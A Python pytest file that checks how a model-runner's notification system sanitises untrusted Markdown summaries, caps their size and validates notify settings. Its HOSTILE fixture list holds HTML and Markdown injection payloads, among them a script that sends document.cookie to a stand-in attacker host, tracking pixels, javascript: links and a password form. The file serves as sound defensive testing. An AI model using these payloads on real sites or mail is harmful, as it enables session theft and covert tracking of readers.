"""A model's summary as notifications read and show it: what an untrusted model may write in
Markdown never reaches a mail as active content, and what is read of it is bounded."""

from __future__ import annotations

import datetime as dt
import tempfile
from pathlib import Path

import pytest

from modelrunner.artifacts.store import ArtifactStore
from modelrunner.notify import messages
from modelrunner.notify.summaries import MAX_SUMMARY_BYTES, read_summary, shortened, to_html, to_text
from modelrunner.spec.workspace import Workspace
from modelrunner.store.tables import OutputRow

pytestmark = pytest.mark.store_free

HOSTILE = [
    "<script>fetch('https://evil.example/?' + document.cookie)</script>",
    "<style>body { background: url(https://evil.example/s.png) }</style>",
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="https://ok.example.org" onclick="steal()">ok</a>',
    '<img src="https://evil.example/pixel.gif">',
    "![pixel](https://evil.example/pixel.png)",
    '<a href="data:text/html;base64,PHNjcmlwdD4=">data</a>',
    "[js](javascript:steal())",
    '<form action="https://evil.example/post"><input name="password"></form>',
    '<svg onload="steal()"><circle r="1"/></svg>',
]


@pytest.mark.parametrize("markdown", HOSTILE)
def test_no_active_content_or_remote_fetch_survives_the_sanitiser(markdown: str) -> None:
    html = to_html(f"Before.\n\n{markdown}\n\nAfter.\n")
    for forbidden in ("<script", "<style", "<iframe", "<img", "<form", "<input", "<svg", "onclick", "onload"):
        assert forbidden not in html.lower()
    assert "evil.example" not in html  # nothing is fetched from, posted to or linked to it
    assert 'href="javascript' not in html and 'href="data' not in html and "src=" not in html
    assert "<p>Before.</p>" in html and "<p>After.</p>" in html
    text = to_text(f"Before.\n\n{markdown}\n\nAfter.\n")
    assert "document.cookie" not in text and "background: url" not in text
    assert text.startswith("Before.") and text.rstrip().endswith("After.")


def test_markdown_is_rendered_and_its_text_kept_readable() -> None:
    markdown = (
        "# 12 new statements\n\nQuery **covid**: see [the results](https://lit.example.org/r).\n\n"
        "| region | new |\n| --- | --- |\n| north | 3 |\n\n1. first\n2. second\n\n```\nfenced code\n```\n"
    )
    html = to_html(markdown)
    assert "<h1>12 new statements</h1>" in html and "<strong>covid</strong>" in html
    assert '<a href="https://lit.example.org/r" rel="noopener noreferrer nofollow">the results</a>' in html
    assert "<td>north</td>" in html and "<ol>" in html and "<pre><code>fenced code" in html
    text = to_text(markdown)
    assert text.startswith("12 new statements\n\nQuery covid: see the results (https://lit.example.org/r).")
    assert "1. first\n2. second" in text and "    fenced code" in text


def test_at_most_64_kib_of_a_summary_is_read_cut_at_a_line(tmp_path: Path) -> None:
    store = ArtifactStore(str(tmp_path / "artifacts"))
    line = "A statement found by the query, one of very many.\n"
    uri = store.put_bytes("runs/1/summary.md", (line * 4000).encode())  # ~200 KB
    output = OutputRow(run_id=1, path="summary.md", size=len(line) * 4000, sha256="0" * 64, uri=uri)
    summary = read_summary(store, output)
    assert summary is not None and summary.truncated
    assert len(summary.markdown.encode()) <= MAX_SUMMARY_BYTES and summary.markdown.endswith(line)
    short = store.put_bytes("runs/2/summary.md", b"# Short\n")
    assert read_summary(store, OutputRow(run_id=2, path="summary.md", size=8, sha256="0" * 64, uri=short)) == (
        type(summary)("summary.md", "# Short\n", False)
    )
    missing = OutputRow(run_id=3, path="summary.md", size=1, sha256="0" * 64, uri=store.uri("runs/3/gone.md"))
    assert read_summary(store, missing) is None  # the notification goes out without it


def test_a_digest_keeps_the_start_of_each_summary_and_says_it_was_cut() -> None:
    payload = {"path": "summary.md", "markdown": "line\n" * 2000, "truncated": False}
    cut = shortened(payload)
    assert cut["truncated"] and len(cut["markdown"]) <= 4000 and cut["markdown"].endswith("line\n")
    item = {
        "event": "run.succeeded",
        "occurred_at": "2026-12-08T06:00:00+00:00",
        "run_id": 7,
        "model": "literature",
        "status": "succeeded",
        "links": {"run": "https://m.example.org/api/v1/runs/7"},
        "summary": payload,
        "subscription_id": 3,
    }
    digest = messages.digest_payload(
        key="digest-u1-x",
        user="alice",
        tick_at=dt.datetime(2026, 12, 8, 6, tzinfo=dt.UTC),
        items=[item],
        total=1,
        subscriptions={3: {"id": 3, "model": "literature", "step": None, "output": None, "params": None, "on": "all"}},
    )
    text = messages.digest_text(digest)
    assert "Subscription 3 (literature: every run that ends):" in text and "cut short" in text


def _check(tmp_path: Path, name: str, spec: str) -> list[str]:
    """``modelrunner check``'s problems of a workspace of one model."""
    root = Path(tempfile.mkdtemp(dir=tmp_path))
    (root / "modelrunner.yaml").write_text("name: ws\n", encoding="utf-8")
    folder = root / name
    folder.mkdir()
    (folder / "model.yaml").write_text(f"name: {name}\n{spec}", encoding="utf-8")
    (folder / "run.py").write_text("", encoding="utf-8")
    return [str(problem) for problem in Workspace(root).problems()]


def test_check_names_a_summary_or_changed_output_the_model_does_not_declare(tmp_path: Path) -> None:
    model = "command: [python, run.py]\noutputs: [{path: summary.md}, {path: results.csv}]\n"
    assert _check(tmp_path, "lit", model + "notify: {summary: summary.md, changes: [results.csv, '*.json']}\n") == []
    [problem] = _check(tmp_path, "lit", model + "notify: {summary: sumary.md}\n")
    assert "notify.summary" in problem and "'sumary.md' is none of the model's declared outputs" in problem
    [problem] = _check(tmp_path, "lit", model + "notify: {changes: [result.csv]}\n")
    assert "notify.changes" in problem and "result.csv" in problem
    pipeline = (
        "steps:\n  fetch: {command: [python, run.py], foreach: [a, b], outputs: [{path: part.csv}]}\n"
        "  report: {command: [python, run.py], needs: [fetch], outputs: [{path: summary.md}]}\n"
    )
    ok = "notify: {summary: report/summary.md, changes: [fetch/a/part.csv, part.csv]}\n"
    assert _check(tmp_path, "pipe", pipeline + ok) == []
    assert "notify.summary" in " ".join(_check(tmp_path, "pipe", pipeline + "notify: {summary: fetch/summary.md}\n"))
    # A model that declares no outputs cannot be checked: nothing is said.
    assert _check(tmp_path, "bare", "command: [python, run.py]\nnotify: {summary: anything.md}\n") == []
